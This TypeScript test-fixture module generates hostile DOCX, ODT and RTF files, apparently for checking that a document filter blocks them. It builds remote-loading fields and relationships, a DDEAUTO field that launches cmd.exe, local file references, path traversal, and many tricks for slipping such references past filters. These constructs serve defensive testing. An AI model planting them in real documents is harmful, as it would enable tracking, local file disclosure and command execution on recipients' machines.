import type { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { gzipSync } from "node:zlib";
import { ZipFile } from "yazl";

/** Addresses that a hostile file refers to. */
export interface Bait {
  /** URL of a server that counts its visitors. */
  web: string;
  /** A picture on this machine, as a file URL. */
  file: string;
}

const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const word =
  `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}" xmlns:v="urn:schemas-microsoft-com:vml" ` +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';

export async function zipOfParts(parts: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const zip = new ZipFile();
  for (const [name, text] of Object.entries(parts))
    zip.addBuffer(Buffer.from(text), name, { compress: name !== "mimetype" });
  zip.end();
  return buffer(zip.outputStream as Readable);
}

/** A DOCX with these paragraphs, given as WordprocessingML. */
export function docxOf(
  body: string,
  rels = "",
  others: Readonly<Record<string, string | Buffer>> = {},
): Promise<Buffer> {
  return zipOfParts({
    "[Content_Types].xml":
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>',
    "_rels/.rels": relsOf(`<Relationship Id="rId1" Type="${relations}/officeDocument" Target="word/document.xml"/>`),
    "word/document.xml": `<?xml version="1.0" encoding="UTF-8"?><w:document ${word}><w:body>${body}<w:sectPr/></w:body></w:document>`,
    "word/_rels/document.xml.rels": relsOf(rels),
    ...others,
  });
}

function relsOf(relationships: string): string {
  return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
}

export const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A field whose instruction is split over runs, as programs write it and as filters overlook it. */
function field(instruction: string): string {
  const parts = [instruction.slice(0, 5), instruction.slice(5)].map(
    (part) => `<w:r><w:instrText xml:space="preserve">${part.replaceAll('"', "&quot;")}</w:instrText></w:r>`,
  );
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  return `<w:p>${mark("begin")}${parts.join("")}${mark("separate")}<w:r><w:t>last result</w:t></w:r>${mark("end")}</w:p>`;
}

function linkedPicture(id: string): string {
  return `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="${id.length}" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
}

/** A DOCX with every construct that makes a program read another file or server, or run another program. */
export function hostileDocx({ web, file }: Bait): Promise<Buffer> {
  const external = (id: string, type: string, target: string, mode = "External"): string =>
    `<Relationship Id="${id}" Type="${relations}/${type}" Target="${target}" TargetMode="${mode}"/>`;
  return docxOf(
    [
      paragraph("Harmless text"),
      linkedPicture("rWeb"),
      linkedPicture("rFile"),
      linkedPicture("rLink"),
      field(`INCLUDEPICTURE "${web}/field.png" \\d`),
      field(`INCLUDETEXT "${web}/text.docx"`),
      field(`INCLUDEPICTURE "${file}" \\d`),
      field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
      `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${web}/simple.png&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>`,
      `<w:p><w:r><w:pict><v:shape style="width:50pt;height:50pt"><v:imagedata src="${web}/vml.png"/></v:shape></w:pict></w:r></w:p>`,
      `<w:p><w:r><w:pict><v:shape style="width:50pt;height:50pt"><v:imagedata r:id="rFile"/></v:shape></w:pict></w:r></w:p>`,
      '<w:altChunk r:id="rChunk"/><w:p><w:subDoc r:id="rSub"/></w:p>',
    ].join(""),
    [
      external("rWeb", "image", `${web}/linked.png`),
      external("rFile", "image", file, "Extern&#97;l"),
      external("rLink", "hyperlink", `${web}/as-link.png`),
      external("rChunk", "aFChunk", `${web}/chunk.html`),
      external("rSub", "subDocument", `${web}/sub.docx`),
      `<Relationship Id="rSet" Type="${relations}/settings" Target="settings.xml"/>`,
    ].join(""),
    {
      "word/settings.xml": `<?xml version="1.0"?><w:settings ${word}><w:attachedTemplate r:id="rTemplate"/></w:settings>`,
      "word/_rels/settings.xml.rels": relsOf(external("rTemplate", "attachedTemplate", `${web}/template.dotm`)),
    },
  );
}

export function hostileOdt({ web, file }: Bait): Promise<Buffer> {
  const names =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"';
  const picture = (href: string): string =>
    `<text:p><draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;
  return zipOfParts({
    mimetype: "application/vnd.oasis.opendocument.text",
    "META-INF/manifest.xml":
      '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    "content.xml": `<?xml version="1.0"?><office:document-content ${names} office:version="1.2"><office:body><office:text><text:p>Harmless text</text:p>${picture(`${web}/odt.png`)}${picture(file)}<text:section text:name="s"><text:section-source xlink:href="${web}/section.odt"/><text:p>section</text:p></text:section></office:text></office:body></office:document-content>`,
  });
}

export function hostileRtf({ web, file }: Bait): Buffer {
  return Buffer.from(
    `{\\rtf1\\ansi{\\*\\template ${web}/template.dotx}Harmless text\\par
{\\field{\\*\\fldinst { INCLU}{DEPICTURE "${web}/rtf.png" \\\\d}}{\\fldrslt last result}}\\par
{\\field{\\*\\fldinst \\'49NCLUDEPICTURE "${file}" \\\\d}{\\fldrslt other result}}\\par
{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\par
{\\object\\objautlink{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}{\\result shown}}\\par
{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv ${web}/shape.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}}}`,
    "latin1",
  );
}

const blank = " ".repeat(100);
const bait = "file:///etc/secret-place.png";
const linkingSvg = (address = bait): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${address}"/></svg>`;
const asData = (text: string): string => `data:image/svg+xml;base64,${Buffer.from(text).toString("base64")}`;
const hexOf = (bytes: Buffer | string): string => Buffer.from(bytes).toString("hex");
const image = (attributes: string): string => `<Relationship Id="rId9" Type="${relations}/image" ${attributes}/>`;

/** Files that refer to `secret-place` where a filter does not look but a reader does. */
export const disguised: readonly [string, "docx" | "odt" | "rtf", () => Buffer | Promise<Buffer>][] = [
  ["an SVG behind blanks", "docx", () => docxOf("", "", { "word/media/a.png": blank + linkingSvg() })],
  ["a packed SVG", "docx", () => docxOf("", "", { "word/media/a.png": gzipSync(linkingSvg()) })],
  [
    "an SVG in UTF-16",
    "docx",
    () => docxOf("", "", { "word/media/a.png": Buffer.from(`\ufeff${linkingSvg()}`, "utf16le") }),
  ],
  ["an SVG in an SVG", "docx", () => docxOf("", "", { "word/media/a.svg": linkingSvg(asData(linkingSvg())) })],
  ["an SVG as data", "docx", () => docxOf(`<w:p><v:imagedata src="${asData(linkingSvg())}"/></w:p>`)],
  ["an address with zeros", "docx", () => docxOf("", image(`Target="&#x000000066;${bait.slice(1)}"`))],
  ["an address in a picture, with zeros", "docx", () => docxOf(`<v:imagedata src="&#0000000102;${bait.slice(1)}"/>`)],
  [
    "two attributes of one name",
    "docx",
    () =>
      docxOf("", image(`xmlns:x="urn:x" x:Target="a" x:TargetMode="Internal" Target="${bait}" TargetMode="External"`)),
  ],
  [
    "a document of another name",
    "docx",
    () => docxOf("", "", { "word/a.dat": blank + fieldOf(instruction(`INCLUDETEXT ${bait}`)) }),
  ],
  ["an instruction in plain text", "docx", () => docxOf(fieldOf(`<w:r><w:t>INCLUDETEXT ${bait}</w:t></w:r>`))],
  [
    "a field without an end",
    "docx",
    () => docxOf(`<w:fldChar w:fldCharType="begin"/>${instruction(`INCLUDETEXT ${bait}`)}`),
  ],
  [
    "a packed SVG in an ODT",
    "odt",
    () => zipOfParts({ "content.xml": "<x/>", "Pictures/a.png": gzipSync(linkingSvg()) }),
  ],
  [
    "an SVG in the text of an ODT",
    "odt",
    () => zipOfParts({ "content.xml": `<x><o:binary-data>${asData(linkingSvg()).slice(26)}</o:binary-data></x>` }),
  ],
  [
    "a folder above the package",
    "odt",
    () => zipOfParts({ "content.xml": '<x href="Pictures/../../secret-place.png"/>' }),
  ],
  [
    "a folder above, in percent",
    "odt",
    () => zipOfParts({ "content.xml": '<x href="Pictures/%2E%2e/secret-place.png"/>' }),
  ],
  [
    "a destination behind a format",
    "rtf",
    () => rtfOf(`{\\field{\\b\\fldinst INCLUDEPICTURE "${bait}"}{\\fldrslt old}}`),
  ],
  ["an SVG as a picture", "rtf", () => rtfOf(`{\\pict\\pngblip ${hexOf(linkingSvg())}}`)],
  [
    "a packed SVG as a picture",
    "rtf",
    () => rtfOf(`{\\b\\pict{\\*\\x 89504e470d0a}\\pngblip ${hexOf(gzipSync(linkingSvg()))}}`),
  ],
  ["a path in a shape", "rtf", () => rtfOf("{\\sp{\\sn pibName}{\\b\\sv /etc/secret-place.png}}")],
];

const instruction = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const fieldOf = (inside: string): string =>
  `<w:p><w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/></w:p>`;
const rtfOf = (text: string): Buffer => Buffer.from(`{\\rtf1\\ansi Harmless text ${text}}`, "latin1");
